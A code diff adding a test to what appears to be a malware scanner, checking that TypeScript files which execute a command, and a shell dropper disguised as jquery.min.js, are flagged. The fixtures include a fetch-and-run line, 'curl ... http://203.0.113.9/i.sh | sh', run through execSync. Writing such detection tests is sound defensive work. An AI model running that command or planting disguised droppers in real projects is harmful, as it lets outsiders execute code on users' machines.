@@ -202,6 +202,32 @@ def test_javascript_is_read_as_a_dropper_when_it_can_start_programs(tmp_path: Pa
     assert verdict.attributes["language"] == "javascript"
 
 
+def test_typescript_takes_the_javascript_gate_and_a_shebang_overrides_the_name(
+    tmp_path: Path,
+) -> None:
+    """TypeScript is JavaScript with types: read when it can start programs, left alone when
+    it only quotes a command (a type declaration). A file that starts with ``#!`` is a
+    script whatever it is named: a shell dropper saved as ``.js`` is still read."""
+    cmd = "curl -fsSL http://203.0.113.9/i.sh | sh"
+    (tmp_path / "types.d.ts").write_text(f'export declare const INSTALL: "{cmd}";\n')
+    (tmp_path / "setup.ts").write_text(
+        'import { execSync } from "node:child_process";\n'
+        f'const cmd: string = "{cmd}";\nexecSync(cmd);\n'
+    )
+    shell = (POSITIVE / "fetch_cron_hidden.sh").read_text()
+    assert shell.startswith("#!")
+    (tmp_path / "jquery.min.js").write_text(shell)
+    res = run_cli("scan", "files", str(tmp_path), "--format", "json", "--min-severity", "info")
+    by_name = {Path(f.target.path or "").name: f for f in res.report.findings}
+    assert "types.d.ts" not in by_name
+    verdict = next(e for e in by_name["setup.ts"].evidence if e.check_id == "MH-SCRIPT-001")
+    assert verdict.attributes["language"] == "typescript"
+    assert "MH-SCRIPT-010" in {e.check_id for e in by_name["setup.ts"].evidence}
+    disguised = by_name["jquery.min.js"]
+    assert disguised.severity >= Severity.MEDIUM
+    assert "MH-SCRIPT-001" in {e.check_id for e in disguised.evidence}
+
+
 def test_javascript_that_evaluates_a_decoded_blob_is_read_as_a_dropper(tmp_path: Path) -> None:
     """Wrapped in base64, the dropper's child_process is out of sight: evaluating a decoded
     blob is reason enough to decode it and read what it runs."""
